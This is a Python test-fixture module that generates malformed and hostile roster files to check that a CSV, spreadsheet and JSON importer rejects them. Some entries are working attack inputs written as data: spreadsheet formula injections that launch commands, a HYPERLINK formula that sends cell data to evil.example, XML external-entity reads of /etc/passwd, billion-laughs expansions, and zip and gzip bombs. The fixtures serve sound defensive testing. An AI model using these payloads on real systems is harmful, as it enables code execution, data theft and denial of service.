"""Broken and malicious roster files, made on the spot: name, content, and what is wrong with each."""

from __future__ import annotations

import gzip
import io
import json
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from datetime import date
from functools import cache
from struct import pack
from typing import NamedTuple

import xlsxwriter

from tests.feed.reading import GOOD, HEADER, OK, ROW, lines, sheet, workbook

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XML = b'<?xml version="1.0"?>'
SECOND = OK.replace("W1", "W2").replace("C1", "C2").replace("Ada", "Grace")


class Hostile(NamedTuple):
    """One file that must yield a complaint, and never a row that is not in it."""

    name: str
    content: bytes
    why: str
    good_rows: int = 0
    """Rows beside the bad ones that are as they should be, and may be used."""


@cache
def corpus() -> tuple[Hostile, ...]:
    """Return all of them."""
    return (*_texts(), *_octets(), *_archives(), *_sheets(), *_json())


def _texts() -> Iterator[Hostile]:
    """CSV that is text, F01 to F20 and F38."""
    for name, text, why in (
        ("empty", "", "F01"),
        ("blank", " \n\n\t\n", "F01"),
        ("header-only", HEADER, "F01: an empty roster does not mean that everybody has left"),
        ("header-and-blank-lines", HEADER + "\n\n,,,,,,\n \n", "F01"),
        ("no-header", f"{OK}\n{SECOND}\n", "F11"),
        ("header-last", f"{OK}\n{HEADER}\n", "F11: only below the header there are rows, and there are none"),
        ("semicolons", GOOD.replace(",", ";"), "F03"),
        ("tabs", GOOD.replace(",", "\t"), "F03"),
        ("bars", GOOD.replace(",", "|"), "F03"),
        ("carets", GOOD.replace(",", "^"), "F03"),
        ("quoted-semicolons", ";".join(f'"{c}"' for c in HEADER.split(",")) + "\n", "F03"),
        ("missing-column", GOOD.replace(",Last day", ",End"), "F11"),
        ("missing-two-columns", GOOD.replace("Last day", "End").replace("First day", "Begin"), "F11"),
        ("doubled-column", GOOD.replace("Contract", "Name", 1), "F11"),
        ("doubled-day", GOOD.replace("First day", "Last day", 1), "F11"),
        ("header-in-other-case", GOOD.replace("Worker ID", "WORKER ID", 1), "F11: a changed header asks"),
        ("header-with-hidden-mark", GOOD.replace("Worker", "Wor\u200bker", 1), "F11"),
        ("header-with-lookalike", GOOD.replace("Worker ID", "Wоrker ID", 1), "F11"),
        ("header-beyond-line-50", "x\n" * 60 + GOOD, "F11"),
        ("unclosed-quote", lines(OK, SECOND.replace("Grace", '"Grace')), "F06"),
        ("quote-then-text", lines(OK, SECOND.replace("Grace", '"Grace"x')), "F06"),
        ("quote-in-header", GOOD.replace("Worker ID", '"Worker ID', 1), "F06"),
        ("only-a-quote", '"', "F06"),
        ("a-thousand-quotes", '"' * 1001, "F06"),
        ("field-too-large", lines(OK.replace("Ada", "A" * 140_000)), "F08"),
        ("quoted-field-too-large", lines(OK.replace("Ada", '"' + "A\n" * 70_000 + '"')), "F08"),
        ("endless-line", lines("A" * 2_000_000), "F08"),
        ("endless-line-of-commas", lines("," * 1_500_000), "F08"),
        ("a-hundred-thousand-columns", lines("," * 100_000), "F08, F12"),
        ("name-like-a-novel", lines(OK.replace("Ada", "A" * 501)), "F08"),
        ("too-few-fields", lines("W9,C9,Bob"), "F12"),
        ("too-many-fields", lines("W9,C9,Bob, Jr.,V,berlin,2026-01-01,2026-03-31"), "F12"),
        ("cut-in-the-last-line", lines("W9,C9,Bob,V,ber")[:-1], "F02"),
        ("total-line", lines("Total,1"), "F12"),
        ("number-of-rows-line", lines("1 row(s) affected"), "F12"),
    ):
        yield Hostile(name, text.encode(), why)
    for name, old, new, why in (
        ("bell", "Ada", "A\x07da", "F05"),
        ("escape-sequence", "Ada", "\x1b[2KAda", "F05"),
        ("backspaces", "Ada", "Eve\x08\x08\x08Ada", "F05"),
        ("bidi-override", "Ada", "A\u202eda", "F05"),
        ("bidi-isolate", "Ada", "A\u2066da\u2069", "F05"),
        ("zero-width-in-id", "W1", "W\u200b1", "F05"),
        ("joiner-in-latin-name", "Ada", "A\u200dda", "F05"),
        ("word-joiner", "Ada", "A\u2060da", "F05"),
        ("soft-hyphen-in-id", "W1", "W\xad1", "F05"),
        ("byte-order-mark-inside", "Ada", "A\ufeffda", "F05"),
        ("line-separator", "Ada", "A\u2028da", "F05"),
        ("tag-characters", "Ada", "Ada\U000e0041", "F05"),
        ("lost-character", "Ada", "Z\ufffd", "F04: an accent was lost before the file came here"),
        ("private-use", "Ada", "A\ue000\U000f0000", "F05"),
        ("c1-control", "Ada", "A\x85da", "F04: Windows text read as something else"),
        ("newline-in-name", "Ada", '"A\nda"', "F05"),
        ("cyrillic-in-name", "Ada", "Аda", "F38"),
        ("greek-in-name", "Ada", "Αda", "F38"),
        ("cyrillic-in-id", "W1", "WС1", "F38"),
        ("fullwidth-id", "W1", "Ｗ１", "F38"),
        ("superscript-id", "W1", "W¹", "F38"),
        ("exponent-id", "W1", "1E5", "F38"),
        ("long-exponent-id", "W1", "1.23457E+11", "F38"),
        ("negative-exponent-id", "W1", "1E-5", "F38"),
        ("error-as-id", "W1", "#REF!", "F16, F38"),
        ("error-as-name", "Ada", "#NAME?", "F16"),
        ("hashes-as-name", "Ada", "#####", "F16: the column was too narrow"),
        ("formula-as-name", "Ada", "=cmd|' /C calc'!A0", "F13"),
        ("formula-as-id", "W1", '"=""00123"""', "F13"),
        ("plus-formula", "Ada", "+SUM(1+1)*cmd|' /C calc'!A0", "F13"),
        ("minus-formula", "Ada", "-2+3+cmd|' /C calc'!A0", "F13"),
        ("at-formula", "Ada", "@SUM(1+1)", "F13"),
        ("hyperlink", "Ada", '"=HYPERLINK(""http://evil.example/""&A1)"', "F13"),
        ("day-or-month-first", "2026-03-31", "03/04/2026", "F17"),
        ("day-first", "2026-03-31", "31/03/2026", "F17: never guessed, even when only one order is possible"),
        ("dots", "2026-03-31", "31.03.2026", "F17"),
        ("month-name", "2026-03-31", "31-Mar-2026", "F17"),
        ("serial-number", "2026-03-31", "46112", "F18"),
        ("serial-with-fraction", "2026-03-31", "46112.5", "F18"),
        ("seconds-since-1970", "2026-03-31", "1774915200", "F18"),
        ("thirty-first-of-february", "2026-03-31", "2026-02-31", "F19"),
        ("thirteenth-month", "2026-03-31", "2026-13-01", "F19"),
        ("year-9999", "2026-03-31", "9999-12-31", "F19"),
        ("year-1900", "2026-01-01", "1900-01-01", "F19"),
        ("year-0", "2026-03-31", "0000-00-00", "F19"),
        ("short-year", "2026-03-31", "31/03/26", "F19"),
        ("still-in-office", "2026-03-31", "Still in office", "F19"),
        ("no-last-day", "2026-03-31", "", "F19"),
        ("no-first-day", "2026-01-01", "", "F19"),
        ("arabic-digits", "2026-03-31", "٢٠٢٦-٠٣-٣١", "F19"),
        ("fullwidth-digits", "2026-03-31", "２０２６-０３-３１", "F19"),
        ("day-of-many-digits", "2026-03-31", "9" * 5_000, "F19: a number too long to convert"),
        ("end-before-start", "2026-03-31", "2025-12-31", "F20"),
        ("no-id", "W1", "", "F12"),
        ("blank-id", "W1", "\xa0", "F12"),
        ("no-name", "Ada", "", "F12"),
        ("no-vendor", ",V,", ",,", "F12"),
        ("unknown-site", "berlin", "atlantis", "F30"),
        ("no-site", "berlin", "", "F30"),
    ):  # fmt: skip
        yield Hostile(name, lines(OK.replace(old, new)).encode(), why)
        yield Hostile(f"{name}-among-others", lines(SECOND, OK.replace(old, new)).encode(), why, good_rows=1)


def _octets() -> Iterator[Hostile]:
    """What is no UTF-8, or no text."""
    good = GOOD.encode()
    for name, content, why in (
        ("windows-1252", GOOD.encode("windows-1252"), "F04"),
        ("mac-roman", GOOD.encode("mac_roman"), "F04"),
        ("utf-16", GOOD.encode("utf-16"), "F04"),
        ("utf-16-be-unmarked", GOOD.encode("utf-16-be"), "F04"),
        ("utf-32", GOOD.encode("utf-32"), "F04"),
        ("shift-jis", lines(OK.replace("Ada", "山田")).encode("shift_jis"), "F04"),
        ("utf-8-cut-in-a-character", lines(OK.replace("31", "ö")).encode()[:-2], "F02, F04"),
        ("overlong-utf-8", good.replace(b"Ada", b"A\xc0\xafda"), "F04"),
        ("surrogates-in-utf-8", good.replace(b"Ada", b"A\xed\xa0\x80da"), "F04"),
        ("nul-in-name", good.replace(b"Ada", b"A\0da"), "F05"),
        ("nul-at-the-end", good + b"\0" * 512, "F02, F05: a copy that was cut off and filled up"),
        ("two-marks", b"\xef\xbb\xbf\xef\xbb\xbf" + good, "F04"),
        ("web-page", b"<!DOCTYPE html>\n<html><body>Please sign in</body></html>", "F42"),
        ("web-page-in-capitals", b"\n<HTML><TABLE><TR><TD>Worker ID</TD></TR></TABLE></HTML>", "F42"),
        ("xml-entities", XML + b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "F15"),
        ("spreadsheet-xml", XML + b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', "F16"),
        ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "F42"),
        ("gzip", gzip.compress(good), "F14"),
        ("gzip-bomb", gzip.compress(b"\0" * 20_000_000), "F14"),
        ("zlib", zlib.compress(good), "F14"),
        ("picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 60, "F42"),
        ("rich-text", b"{\\rtf1\\ansi Worker ID}", "F42"),
        ("old-excel", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "F16"),
        ("password", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le"), "F16"),
        ("pgp", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n", "F42"),
        ("random", bytes((n * 7919 + n * n) % 256 for n in range(4096)), "F42"),
        ("all-octets", bytes(range(256)) * 8, "F42"),
        ("newlines", b"\n" * 100_000, "F01, F08"),
    ):  # fmt: skip
        yield Hostile(name, content, why)


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _good() -> bytes:
    return workbook(lambda book: sheet(book, ROW) and None)


def _changed(**changes: bytes | Callable[[bytes], bytes] | None) -> bytes:
    """Return a good workbook with parts replaced, by the end of their names; None leaves one out."""
    parts = _parts(_good())
    for key, change in changes.items():
        name = next(n for n in parts if n.replace("/", "_").replace(".", "_").endswith(key))
        if change is None:
            del parts[name]
        else:
            parts[name] = change(parts[name]) if callable(change) else change
    return _packed(parts)


def _page(rows: str, more: str = "") -> bytes:
    return f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{more}</worksheet>'.encode()


def _lying_about_size(content: bytes) -> bytes:
    """Declare every part of an archive to be one byte long."""
    out = bytearray(content)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 24 : at + 28] = pack("<I", 1)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def _patched(content: bytes, mark: bytes, at: int, put: bytes, skip: int = 0) -> bytes:
    """Overwrite something in every header of one kind, or in all but the first few."""
    out = bytearray(content)
    found = out.find(mark)
    while found >= 0:
        if skip <= 0:
            out[found + at : found + at + len(put)] = put
        skip -= 1
        found = out.find(mark, found + 4)
    return bytes(out)


def _packed_twice(content: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("xl/worksheets/sheet1.xml", _page(""))
    return out.getvalue()


def _archives() -> Iterator[Hostile]:
    good = _good()
    doctype = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %c "%s">' % (c + 1, b"&%c;" % c * 10) for c in range(97, 107)
    )
    laughs = doctype + b"]>"

    def with_doctype(part: bytes) -> bytes:
        return part.replace(b"?>", b"?>" + laughs, 1)

    def far_doctype(part: bytes) -> bytes:
        return part.replace(b"?>", b"?>" + b"<!--" + b"x" * 262_130 + b"--><!DOCTYPE x>", 1)

    for name, content, why in (
        ("zip-of-nothing", b"PK\x03\x04rubbish", "F16"),
        ("empty-zip", _packed({}), "F16"),
        ("zip-with-csv", _packed({"roster.csv": GOOD.encode()}), "F14: an archive is not unpacked"),
        ("nested-zip", _packed({"roster.xlsx": good}), "F14"),
        ("word-document", _packed({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}), "F42"),
        ("open-document", _packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "F42"),
        ("binary-workbook", _packed({"[Content_Types].xml": b"<a/>", "xl/workbook.bin": b"\0"}), "F42"),
        ("truncated-workbook", good[: len(good) // 2], "F02"),
        ("workbook-without-its-end", good[:-30], "F02"),
        ("workbook-with-a-flipped-bit", good[:900] + bytes([good[900] ^ 0x40]) + good[901:], "F02"),
        ("zip-bomb", _packed({"xl/workbook.xml": b"<a/>", "xl/worksheets/a.xml": b"A" * 80_000_000}), "F14"),
        ("bomb-that-lies", _lying_about_size(_changed(sheet1_xml=_page(" " * 60_000_000))), "F14"),
        ("ten-thousand-parts", _packed({"xl/workbook.xml": b""} | {f"xl/{n}": b"" for n in range(1_500)}), "F14"),
        ("billion-laughs", _changed(sheet1_xml=with_doctype), "F15"),
        ("billion-laughs-in-strings", _changed(sharedStrings_xml=with_doctype), "F15"),
        ("external-entity", _changed(xl_workbook_xml=lambda p: p.replace(
            b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)), "F15"),
        ("doctype-across-pieces", _changed(sheet1_xml=far_doctype), "F15: cut in two where pieces are read"),
        ("utf-16-doctype", _changed(sheet1_xml=lambda p: with_doctype(p).decode().replace(
            "UTF-8", "UTF-16").encode("utf-16")), "F15"),
        ("no-sheets", _changed(xl_workbook_xml=f'<workbook xmlns="{MAIN}"><sheets/></workbook>'.encode()), "F16"),
        ("no-sheet-part", _changed(sheet1_xml=None), "F16"),
        ("no-relations", _changed(workbook_xml_rels=None), "F16"),
        ("broken-xml", _changed(sheet1_xml=lambda p: p[: len(p) // 2]), "F02"),
        ("no-xml", _changed(sheet1_xml=b"\0\1\2\3"), "F16"),
        ("strings-missing", _changed(sharedStrings_xml=f'<sst xmlns="{MAIN}"/>'.encode()), "F16"),
        ("deep-xml", _changed(sheet1_xml=_page("<a>" * 200_000)), "F15"),
        ("unknown-encoding", _changed(sheet1_xml=lambda p: p.replace(b"UTF-8", b"EBCDIC-9")), "F04"),
        ("parts-with-a-password", _patched(good, b"PK\x01\x02", 8, b"\1\0"), "F16"),
        ("part-twice", _packed_twice(good), "F16: programs differ in which of the two they read"),
        ("local-header-elsewhere", _patched(good, b"PK\x01\x02", 42, b"\xff\xff\xff\x7f"), "F16"),
        ("local-header-of-another-kind", _patched(good, b"PK\x03\x04", 0, b"PK\x05\x06", skip=4), "F16"),
        ("wrong-checksum", _patched(good, b"PK\x01\x02", 16, b"\0\0\0\0"), "F02"),
        ("numbers-document", _packed({"Index/Document.iwa": b"\0"}), "F42"),
        ("sheets-of-one-name", _changed(xl_workbook_xml=lambda p: p.replace(
            b"<sheets>", b'<sheets><sheet name="Roster" sheetId="9" r:id="rId1"/>')), "F16"),
        ("endless-list-of-sheets", _changed(xl_workbook_xml=lambda p: p.replace(
            b"?>", b"?><!--%s-->" % (b"ab" * 3**13))), "F08"),
        ("lzma-part", _packed(_parts(good), zipfile.ZIP_LZMA), "F14"),
    ):  # fmt: skip
        yield Hostile(name, content, why)


def _sheets() -> Iterator[Hostile]:
    """Workbooks that spreadsheet programs do write, and some that they do not."""

    def several(book: xlsxwriter.Workbook) -> None:
        sheet(book, ROW)
        book.add_worksheet("Notes")

    def hidden_roster(book: xlsxwriter.Workbook) -> None:
        book.add_worksheet("Notes").write(0, 0, "See the other sheet")
        sheet(book, ROW).hide()

    def merged(book: xlsxwriter.Workbook) -> None:
        page = sheet(book, ROW, [1002, "C2", "Grace", "", *ROW[4:]])
        page.merge_range("D2:D3", "V")

    def formula(text: str, value: object) -> Callable[[xlsxwriter.Workbook], None]:
        def fill(book: xlsxwriter.Workbook) -> None:
            sheet(book, ROW[:6]).write_formula(1, 6, text, book.add_format({"num_format": "yyyy-mm-dd"}), value)

        return fill

    def put(column: int, value: object) -> Callable[[xlsxwriter.Workbook], None]:
        return lambda book: sheet(book, [*ROW[:column], value, *ROW[column + 1 :]]) and None

    for name, fill, why, good_rows in (
        ("several-sheets", several, "F16: which one is not guessed", 0),
        ("hidden-roster", hidden_roster, "F16: a hidden sheet is never chosen silently", 0),
        ("empty-workbook", lambda book: book.add_worksheet() and None, "F01", 0),
        ("sheet-with-header-only", lambda book: sheet(book) and None, "F01", 0),
        ("merged-vendor", merged, "F16: below the first the cells are empty", 1),
        ("formula-without-result", formula("=A1+1", ""), "F16", 0),
        ("formula-with-error", formula("=1/0", "#DIV/0!"), "F16", 0),
        ("formula-lost", formula("=VLOOKUP(A2,X!A:B,2,0)", "#N/A"), "F16", 0),
        ("formula-that-changes", formula("=TODAY()+30", 46112), "F16: tomorrow it ends a day later", 0),
        ("formula-of-zero", formula("=DATE(2026,3,31)", 0), "F16: never calculated", 0),
        ("number-as-day", put(6, 46112), "F18", 0),
        ("text-as-day", put(6, "31/03/2026"), "F17", 0),
        ("day-as-id", put(0, date(2026, 3, 1)), "F38: MAR1 was an id", 0),
        ("rounded-id", put(0, 1234567890123456), "F38: a spreadsheet keeps fifteen digits", 0),
        ("broken-number-as-id", put(0, 0.5), "F38", 0),
        ("error-text-as-name", put(2, "#REF!"), "F16", 0),
        ("bidi-in-a-workbook", put(2, "A\u202eda"), "F05", 0),
        ("wide-workbook", lambda book: sheet(book, ROW).write(1, 2_000, "x") and None, "F08", 0),
        ("far-row", lambda book: sheet(book, ROW).write(1_048_575, 0, "x") and None, "F08", 0),
    ):  # fmt: skip
        yield Hostile(name, workbook(fill), why, good_rows)
    cell = '<c r="{}"><v>1</v></c>'
    for name, rows, more in (
        ("row-of-thirteen-digits", f'<row r="1">{cell.format("A9999999999999")}</row>', ""),
        ("column-of-eight-letters", f'<row r="1">{cell.format("ZZZZZZZZ1")}</row>', ""),
        ("row-zero", f'<row r="0">{cell.format("A0")}</row>', ""),
        ("corner-to-corner", f'<row r="1">{cell.format("A1")}</row><row>{cell.format("XFD1048576")}</row>', ""),
        ("backwards", f'<row r="5">{cell.format("A5")}</row><row r="2">{cell.format("A2")}</row>', ""),
        ("cell-twice", f'<row r="1">{cell.format("A1")}{cell.format("A1")}</row>', ""),
        ("string-that-is-not-there", '<row r="1"><c r="A1" t="s"><v>999</v></c></row>', ""),
        ("string-by-name", '<row r="1"><c r="A1" t="s"><v>abc</v></c></row>', ""),
        ("number-that-is-none", '<row r="1"><c r="A1"><v>abc</v></c></row>', ""),
        ("infinite-number", '<row r="1"><c r="A1"><v>1e999</v></c></row>', ""),
        ("merged-everything", f'<row r="1">{cell.format("A1")}</row>',
         '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        ("row-of-letters", f'<row r="ABC">{cell.format("A1")}</row>', ""),
        ("a-hundred-thousand-errors", "".join(
            f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="e"><v>#REF!</v></c>' for c in "ABCDEFGHIJK") + "</row>"
            for n in range(1, 10_000)), ""),
        ("merged-over-one-another", f'<row r="1">{cell.format("A1")}</row>' + f'<row r="9">{cell.format("B9")}</row>',
         "<mergeCells>" + '<mergeCell ref="A1:B9"/>' * 9 + "</mergeCells>"),
        ("merged-nonsense", f'<row r="1">{cell.format("A1")}</row>',
         '<mergeCells><mergeCell ref="B2:A1"/></mergeCells>'),
    ):  # fmt: skip
        yield Hostile(name, _changed(sheet1_xml=_page(rows, more)), "F08, F16")


def _json() -> Iterator[Hostile]:
    record = dict(zip(HEADER.split(","), OK.split(","), strict=True))
    good = json.dumps([record, record | {"Contract": "C2"}])
    for name, text, why in (
        ("json-empty-list", "[]", "F01"),
        ("json-empty-report", '{"Report_Entry": []}', "F01, F42"),
        ("json-empty-object", "{}", "F01"),
        ("json-cut", good[:-20], "F02"),
        ("json-without-commas", good.replace("}, {", "} {"), "F02"),
        ("json-text-behind", json.dumps([record]) + " x", "F02"),
        ("json-many-keys", json.dumps([{f"k{n}": n for n in range(1_001)}]), "F08"),
        ("json-strings-without-end", '{"schemas": [' + '"a"  ' * 5_000 + "x", "F08: patterns that try every split"),
        ("json-cut-after-a-record", good[: good.index("}") + 1], "F02"),
        ("json-report-cut", '{"Report_Entry": ' + good, "F02"),
        ("json-with-more-behind", good + "]", "F02"),
        ("json-of-numbers", "[1, 2, 3]", "F42"),
        ("json-of-lists", "[[1], [2]]", "F42"),
        ("json-error", '{"error": "invalid_grant", "error_description": "expired"}', "F42"),
        ("json-key-twice", good.replace('"Contract": "C1"', '"Contract": "C1", "Contract": "C9"'), "F09"),
        ("json-two-paths-to-a-key", '[{"a.b": 1, "a": {"b": 2}}]', "F09"),
        ("json-nan", good.replace('"W1"', "NaN"), "F42"),
        ("json-huge-number", good.replace('"2026-03-31"', "9" * 6_000), "F19"),
        ("json-deep", "[" * 100_000, "F15"),
        ("json-deep-object", '[{"a":' * 50_000, "F15"),
        ("json-deep-member", '[{"a":' + "[" * 50_000, "F15"),
        ("json-surrogate", good.replace("Ada", "A\\ud800da"), "F05"),
        ("json-nul", good.replace("Ada", "A\\u0000da"), "F05"),
        ("json-bidi", good.replace("Ada", "A\\u202eda"), "F05"),
        ("json-exponent-id", good.replace('"W1"', "1E5"), "F38"),
        ("json-number-as-day", good.replace('"2026-03-31"', "46112"), "F18"),
        ("json-null-days", good.replace('"2026-03-31"', "null"), "F19"),
        ("json-lines-cut", json.dumps(record) + "\n" + json.dumps(record)[:-9], "F02"),
        ("json-single-quotes", good.replace('"', "'"), "F42"),
        ("json-comment", "[// all\n" + good[1:], "F42"),
        ("json-utf-16", "\ufeff" + good, "F04"),
    ):
        yield Hostile(name, text.encode("utf-16" if name == "json-utf-16" else "utf-8"), why)
